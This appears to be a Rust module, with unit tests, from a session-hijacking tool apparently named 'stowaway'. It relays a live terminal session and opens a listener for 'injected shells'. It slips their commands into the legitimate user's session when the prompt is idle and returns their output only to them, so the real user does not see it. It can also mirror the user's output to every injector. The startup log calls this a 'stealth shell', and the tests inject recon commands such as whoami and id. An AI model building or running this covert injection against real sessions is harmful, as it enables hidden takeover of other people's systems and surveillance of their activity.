//! Arbitrates one live session between its legitimate client and any number
//! of injected shells.
//!
//! The host drives [`InjectableForwarder`] through [`SessionHooks`] from its
//! own scheduling slot; every hook is non-blocking and guarded by a readiness
//! check. Injector connections are served on a background acceptor thread and
//! reach the forwarder only through the arbitration queue.

use crossbeam_channel::{Receiver, TryRecvError};
use std::io;
use std::net::{SocketAddr, TcpListener};
use std::sync::Arc;
use std::thread::JoinHandle;
use thiserror::Error;
use tracing::{Level, debug, info, trace, warn};

use crate::arbitration::{
    ArbitrationQueue, IDLE_PROBE, Observation, Origin, PendingMessage, QueueHandle, SenderState,
};
use crate::config::InjectorConfig;
use crate::hostkey::{HostKey, HostKeyError};
use crate::injector::acceptor::{Acceptor, AcceptorFault, connect_command};
use crate::injector::WorkerRegistry;
use crate::session::Session;
use crate::telemetry::logging as logctl;
use crate::transport::{ChannelError, InjectorTransport};

#[derive(Debug, Error)]
pub enum ForwardError {
    #[error("client channel: {0}")]
    Client(#[source] ChannelError),
    #[error("server channel: {0}")]
    Server(#[source] ChannelError),
    #[error("injector listener: {0}")]
    Listener(#[from] io::Error),
    #[error(transparent)]
    HostKey(#[from] HostKeyError),
    #[error("injector acceptor failed: {0}")]
    Acceptor(String),
}

/// The three cooperative phases a host runs for each session tick.
///
/// Each hook returns whether it moved any bytes.
pub trait SessionHooks {
    fn on_client_readable(&mut self) -> Result<bool, ForwardError>;
    fn on_server_readable(&mut self) -> Result<bool, ForwardError>;
    fn on_idle_tick(&mut self) -> Result<bool, ForwardError>;
}

/// Runs one tick of every phase in order.
pub fn pump<H: SessionHooks + ?Sized>(hooks: &mut H) -> Result<bool, ForwardError> {
    let client = hooks.on_client_readable()?;
    let server = hooks.on_server_readable()?;
    let idle = hooks.on_idle_tick()?;
    Ok(client || server || idle)
}

/// `workers_joined` counts only the injector threads teardown itself waited
/// for; threads that ended earlier in the session are in `workers_reaped`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct TeardownReport {
    pub workers_joined: usize,
    pub workers_reaped: usize,
    pub acceptor_joined: usize,
    pub listener_closed: bool,
}

pub struct InjectableForwarder {
    session: Session,
    queue: Arc<ArbitrationQueue>,
    sender: SenderState,
    registry: WorkerRegistry,
    mirror: bool,
    buf_len: usize,
    local_addr: SocketAddr,
    listener: Option<TcpListener>,
    acceptor: Option<JoinHandle<()>>,
    faults: Receiver<AcceptorFault>,
    torn_down: bool,
}

impl InjectableForwarder {
    /// Binds the injector listener and starts accepting injector connections.
    pub fn start(
        session: Session,
        config: &InjectorConfig,
        transport: Arc<dyn InjectorTransport>,
    ) -> Result<Self, ForwardError> {
        let host_key = HostKey::resolve(config.host_key.as_deref())?;
        let listener = TcpListener::bind((config.bind_addr, 0))?;
        let local_addr = listener.local_addr()?;
        let queue = Arc::new(ArbitrationQueue::new());
        let registry = WorkerRegistry::new();
        let (fault_tx, faults) = crossbeam_channel::bounded(1);

        info!(
            target = "stowaway::forwarder",
            addr = %local_addr,
            connect = %connect_command(local_addr),
            fingerprint = %host_key.fingerprint(),
            mirror = config.mirror,
            mode = ?config.input_mode(),
            "created stealth shell"
        );

        let acceptor = Acceptor::new(
            listener.try_clone()?,
            transport,
            host_key,
            session.liveness(),
            registry.clone(),
            QueueHandle::new(Arc::clone(&queue)),
            config.worker_settings(),
            config.acceptor_timing(),
            fault_tx,
        )
        .spawn()?;

        Ok(Self {
            session,
            queue,
            sender: SenderState::new(),
            registry,
            mirror: config.mirror,
            buf_len: config.buf_len,
            local_addr,
            listener: Some(listener),
            acceptor: Some(acceptor),
            faults,
            torn_down: false,
        })
    }

    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    pub fn connect_command(&self) -> String {
        connect_command(self.local_addr)
    }

    pub fn session(&self) -> &Session {
        &self.session
    }

    pub fn registry(&self) -> &WorkerRegistry {
        &self.registry
    }

    pub fn sender_state(&self) -> &SenderState {
        &self.sender
    }

    pub fn queue_handle(&self) -> QueueHandle {
        QueueHandle::new(Arc::clone(&self.queue))
    }

    pub fn queue_len(&self) -> usize {
        self.queue.len()
    }

    fn check_acceptor(&mut self) -> Result<(), ForwardError> {
        match self.faults.try_recv() {
            Ok(fault) => {
                self.session.close();
                Err(ForwardError::Acceptor(fault.reason))
            }
            Err(TryRecvError::Empty | TryRecvError::Disconnected) => Ok(()),
        }
    }

    fn deliver(&self, chunk: &[u8]) -> Result<(), ForwardError> {
        match self.sender.current_sender() {
            Origin::Client => {
                self.session
                    .client()
                    .send_all(chunk)
                    .map_err(ForwardError::Client)?;
                if self.mirror {
                    for worker in self.registry.snapshot() {
                        if let Err(err) = worker.channel.send_all(chunk) {
                            warn!(
                                target = "stowaway::forwarder",
                                worker = %worker.id,
                                error = %err,
                                "failed to mirror session output"
                            );
                        }
                    }
                }
            }
            Origin::Injector(id) => match self.registry.channel(id) {
                Some(channel) => {
                    if let Err(err) = channel.send_all(chunk) {
                        debug!(
                            target = "stowaway::forwarder",
                            worker = %id,
                            error = %err,
                            "injector went away before its output arrived"
                        );
                    }
                }
                None => {
                    debug!(
                        target = "stowaway::forwarder",
                        worker = %id,
                        bytes = chunk.len(),
                        "discarding output for detached injector"
                    );
                }
            },
        }
        Ok(())
    }

    /// Closes the session and waits for every thread the forwarder started.
    pub fn close_session(mut self) -> TeardownReport {
        self.teardown()
    }

    fn teardown(&mut self) -> TeardownReport {
        if self.torn_down {
            return TeardownReport::default();
        }
        self.torn_down = true;
        // the acceptor must not reap a worker that teardown is about to count
        self.registry.seal();
        self.session.close();

        let mut report = TeardownReport {
            workers_joined: self.registry.join_all(),
            ..TeardownReport::default()
        };
        if let Some(handle) = self.acceptor.take() {
            if handle.join().is_err() {
                warn!(target = "stowaway::forwarder", "acceptor thread panicked");
            }
            report.acceptor_joined += 1;
        }
        // a connection admitted while the first sweep ran
        report.workers_joined += self.registry.join_all();
        report.workers_reaped = self.registry.reaped_total();
        report.listener_closed = self.listener.take().is_some();

        info!(
            target = "stowaway::forwarder",
            workers = report.workers_joined,
            reaped = report.workers_reaped,
            acceptor = report.acceptor_joined,
            "session torn down"
        );
        report
    }
}

impl SessionHooks for InjectableForwarder {
    fn on_client_readable(&mut self) -> Result<bool, ForwardError> {
        let client = self.session.client();
        if !client.recv_ready() {
            return Ok(false);
        }
        let chunk = client.recv(self.buf_len).map_err(ForwardError::Client)?;
        if chunk.is_empty() {
            return Ok(false);
        }
        if tracing::enabled!(Level::TRACE) {
            trace!(
                target = "stowaway::forwarder",
                bytes = chunk.len(),
                dump = %logctl::hexdump(&chunk),
                "client input"
            );
        }
        self.sender.client_activity();
        self.queue.enqueue(PendingMessage::from_client(chunk));
        Ok(true)
    }

    fn on_server_readable(&mut self) -> Result<bool, ForwardError> {
        let server = self.session.server();
        if !server.recv_ready() {
            return Ok(false);
        }
        let chunk = server.recv(self.buf_len).map_err(ForwardError::Server)?;
        if chunk.is_empty() {
            return Ok(false);
        }
        if tracing::enabled!(Level::TRACE) {
            trace!(
                target = "stowaway::forwarder",
                bytes = chunk.len(),
                dump = %logctl::hexdump(&chunk),
                "server output"
            );
        }
        match self.sender.observe_server_output(&chunk) {
            Observation::ProbeReply { learned: true } => {
                let marker = self.sender.clear_signal().cloned().unwrap_or_default();
                info!(
                    target = "stowaway::forwarder",
                    marker = %String::from_utf8_lossy(&marker),
                    "learned idle prompt"
                );
                Ok(true)
            }
            Observation::ProbeReply { learned: false } => {
                debug!(target = "stowaway::forwarder", "blank probe reply; probing again later");
                Ok(true)
            }
            Observation::Forward => {
                self.deliver(&chunk)?;
                Ok(true)
            }
        }
    }

    fn on_idle_tick(&mut self) -> Result<bool, ForwardError> {
        self.check_acceptor()?;
        if self.session.client().recv_ready()
            || self.session.server().recv_ready()
            || self.queue.is_empty()
        {
            return Ok(false);
        }

        let head_injected = self
            .queue
            .head_origin()
            .is_some_and(|origin| !origin.is_client());
        if head_injected && self.sender.needs_probe() {
            if self.sender.is_probing() {
                return Ok(false);
            }
            self.session
                .server()
                .send_all(IDLE_PROBE)
                .map_err(ForwardError::Server)?;
            self.sender.begin_probe();
            debug!(target = "stowaway::forwarder", "sent idle probe");
            return Ok(true);
        }

        let Some(message) = self.queue.dequeue_if_ready(self.sender.is_clear()) else {
            return Ok(false);
        };
        let origin = message.origin();
        if origin.is_client() && self.sender.is_probing() {
            self.sender.abandon_probe();
        }
        self.session
            .server()
            .send_all(message.payload())
            .map_err(ForwardError::Server)?;
        self.sender.record_send(origin);
        if !origin.is_client() {
            debug!(
                target = "stowaway::forwarder",
                origin = %origin,
                bytes = message.payload().len(),
                "injected input sent"
            );
        }
        Ok(true)
    }
}

impl Drop for InjectableForwarder {
    fn drop(&mut self) {
        self.teardown();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arbitration::WorkerId;
    use crate::injector::LiveWorker;
    use crate::transport::mock::MockChannel;
    use crate::transport::{PendingTransport, TcpTransport, TransportError};
    use bytes::Bytes;
    use std::net::TcpStream;
    use std::time::{Duration, Instant};

    struct ExhaustedTransport;

    impl InjectorTransport for ExhaustedTransport {
        fn start_server(
            &self,
            _stream: TcpStream,
            _remote: SocketAddr,
            _host_key: &HostKey,
        ) -> Result<Box<dyn PendingTransport>, TransportError> {
            Err(TransportError::Io(io::Error::new(
                io::ErrorKind::Other,
                "too many open files",
            )))
        }
    }

    struct Rig {
        client: Arc<MockChannel>,
        server: Arc<MockChannel>,
        forwarder: InjectableForwarder,
    }

    fn rig(mirror: bool) -> Rig {
        let client = MockChannel::new();
        let server = MockChannel::new();
        let session = Session::new(client.clone(), server.clone());
        let config = InjectorConfig {
            mirror,
            accept_poll: Duration::from_millis(10),
            worker_poll: Duration::from_millis(5),
            ..InjectorConfig::default()
        };
        let forwarder =
            InjectableForwarder::start(session, &config, Arc::new(TcpTransport)).unwrap();
        Rig {
            client,
            server,
            forwarder,
        }
    }

    fn attach(rig: &Rig, id: u64) -> Arc<MockChannel> {
        let channel = MockChannel::new();
        rig.forwarder.registry().insert(LiveWorker {
            id: WorkerId(id),
            remote: "127.0.0.1:40000".parse().unwrap(),
            channel: channel.clone(),
        });
        channel
    }

    fn inject(rig: &Rig, id: u64, payload: &'static [u8]) {
        rig.forwarder
            .queue_handle()
            .submit(WorkerId(id), Bytes::from_static(payload));
    }

    /// Learns `marker` as the idle prompt through one probe round trip.
    fn learn_marker(rig: &mut Rig, marker: &'static [u8]) {
        assert!(rig.forwarder.on_idle_tick().unwrap());
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(IDLE_PROBE)]);
        rig.server.push_inbound(marker);
        assert!(rig.forwarder.on_server_readable().unwrap());
    }

    #[test_timeout::timeout]
    fn client_input_preempts_withheld_injection() {
        let mut rig = rig(false);
        inject(&rig, 1, b"id\r");
        learn_marker(&mut rig, b"$ ");

        rig.client.push_inbound(&b"ls\n"[..]);
        assert!(rig.forwarder.on_client_readable().unwrap());
        assert!(!rig.forwarder.sender_state().is_clear());

        assert!(rig.forwarder.on_idle_tick().unwrap());
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(b"ls\n")]);
        assert!(!rig.forwarder.on_idle_tick().unwrap());
        assert!(rig.server.take_sent().is_empty());
        assert_eq!(rig.forwarder.queue_len(), 1);
    }

    #[test_timeout::timeout]
    fn probe_teaches_marker_and_clear_waits_for_next_prompt() {
        let mut rig = rig(false);
        rig.client.push_inbound(&b"x"[..]);
        rig.forwarder.on_client_readable().unwrap();
        rig.forwarder.on_idle_tick().unwrap();
        rig.server.take_sent();
        inject(&rig, 1, b"whoami\r");

        assert!(rig.forwarder.on_idle_tick().unwrap());
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(b"\r")]);
        // no second probe while one is outstanding
        assert!(!rig.forwarder.on_idle_tick().unwrap());
        assert!(rig.server.take_sent().is_empty());

        rig.server.push_inbound(&b"\r\nuser@host:~$ "[..]);
        rig.forwarder.on_server_readable().unwrap();
        assert_eq!(
            rig.forwarder.sender_state().clear_signal().map(|m| m.as_ref()),
            Some(&b"user@host:~$"[..])
        );
        assert!(!rig.forwarder.sender_state().is_clear());
        assert!(rig.client.sent().is_empty());
        assert!(!rig.forwarder.on_idle_tick().unwrap());

        rig.server.push_inbound(&b"x: command not found\r\nuser@host:~$ "[..]);
        rig.forwarder.on_server_readable().unwrap();
        assert!(rig.forwarder.sender_state().is_clear());

        assert!(rig.forwarder.on_idle_tick().unwrap());
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(b"whoami\r")]);
        assert_eq!(
            rig.forwarder.sender_state().current_sender(),
            Origin::Injector(WorkerId(1))
        );
    }

    #[test_timeout::timeout]
    fn injected_output_returns_only_to_its_injector() {
        let mut rig = rig(true);
        let first = attach(&rig, 1);
        let second = attach(&rig, 2);
        inject(&rig, 1, b"uname\r");
        learn_marker(&mut rig, b"$");

        assert!(rig.forwarder.on_idle_tick().unwrap());
        rig.server.push_inbound(&b"Linux\r\n$ "[..]);
        rig.forwarder.on_server_readable().unwrap();

        assert_eq!(first.sent_bytes(), b"Linux\r\n$ ");
        assert!(second.sent().is_empty());
        assert!(rig.client.sent().is_empty());
    }

    #[test_timeout::timeout]
    fn mirroring_copies_client_output_to_every_injector() {
        let mut rig = rig(true);
        let first = attach(&rig, 1);
        let second = attach(&rig, 2);

        rig.server.push_inbound(&b"motd\r\n"[..]);
        rig.forwarder.on_server_readable().unwrap();

        assert_eq!(rig.client.sent_bytes(), b"motd\r\n");
        assert_eq!(first.sent_bytes(), b"motd\r\n");
        assert_eq!(second.sent_bytes(), b"motd\r\n");
    }

    #[test_timeout::timeout]
    fn output_for_a_departed_injector_is_dropped() {
        let mut rig = rig(false);
        let channel = attach(&rig, 7);
        inject(&rig, 7, b"sleep 1\r");
        learn_marker(&mut rig, b"#");
        rig.forwarder.on_idle_tick().unwrap();
        rig.forwarder.registry().terminate(WorkerId(7));

        rig.server.push_inbound(&b"# "[..]);
        assert!(rig.forwarder.on_server_readable().unwrap());
        assert!(channel.sent().is_empty());
        assert!(rig.client.sent().is_empty());
    }

    #[test_timeout::timeout]
    fn arbitration_waits_while_either_side_is_readable() {
        let mut rig = rig(false);
        inject(&rig, 1, b"id\r");
        rig.server.push_inbound(&b"partial"[..]);
        assert!(!rig.forwarder.on_idle_tick().unwrap());
        assert!(rig.server.sent().is_empty());
    }

    #[test_timeout::timeout]
    fn client_message_abandons_outstanding_probe() {
        let mut rig = rig(false);
        inject(&rig, 1, b"id\r");
        assert!(rig.forwarder.on_idle_tick().unwrap());
        rig.server.take_sent();

        rig.client.push_inbound(&b"q"[..]);
        rig.forwarder.on_client_readable().unwrap();
        assert!(rig.forwarder.on_idle_tick().unwrap());
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(b"q")]);
        assert!(!rig.forwarder.sender_state().is_probing());

        rig.server.push_inbound(&b"\r\n$ "[..]);
        rig.forwarder.on_server_readable().unwrap();
        assert_eq!(rig.client.sent_bytes(), b"\r\n$ ");
        assert!(rig.forwarder.sender_state().needs_probe());
    }

    #[test_timeout::timeout]
    fn pump_runs_every_phase() {
        let mut rig = rig(false);
        rig.client.push_inbound(&b"echo hi\r"[..]);
        assert!(pump(&mut rig.forwarder).unwrap());
        // client phase enqueued, the idle phase saw the queue and sent it
        assert_eq!(rig.server.take_sent(), vec![Bytes::from_static(b"echo hi\r")]);
    }

    #[test_timeout::timeout]
    fn fatal_acceptor_error_closes_the_session() {
        let client = MockChannel::new();
        let server = MockChannel::new();
        let session = Session::new(client.clone(), server.clone());
        let config = InjectorConfig {
            accept_poll: Duration::from_millis(10),
            ..InjectorConfig::default()
        };
        let mut forwarder =
            InjectableForwarder::start(session, &config, Arc::new(ExhaustedTransport)).unwrap();
        let _conn = TcpStream::connect(forwarder.local_addr()).unwrap();

        let deadline = Instant::now() + Duration::from_secs(5);
        let err = loop {
            match pump(&mut forwarder) {
                Ok(_) => {
                    assert!(Instant::now() < deadline, "acceptor fault never surfaced");
                    std::thread::sleep(Duration::from_millis(5));
                }
                Err(err) => break err,
            }
        };
        match err {
            ForwardError::Acceptor(reason) => assert!(reason.contains("too many open files")),
            other => panic!("unexpected error: {other}"),
        }
        assert!(forwarder.session().is_closed());
        assert_eq!(client.close_calls(), 1);

        let report = forwarder.close_session();
        assert_eq!(report.acceptor_joined, 1);
        assert!(report.listener_closed);
        assert_eq!(report.workers_joined, 0);
    }

    #[test_timeout::timeout]
    fn teardown_joins_acceptor_and_closes_listener() {
        let rig = rig(false);
        let addr = rig.forwarder.local_addr();
        let report = rig.forwarder.close_session();
        assert_eq!(
            report,
            TeardownReport {
                workers_joined: 0,
                workers_reaped: 0,
                acceptor_joined: 1,
                listener_closed: true,
            }
        );
        assert_eq!(rig.client.close_calls(), 1);
        assert!(std::net::TcpStream::connect(addr).is_err());
    }
}
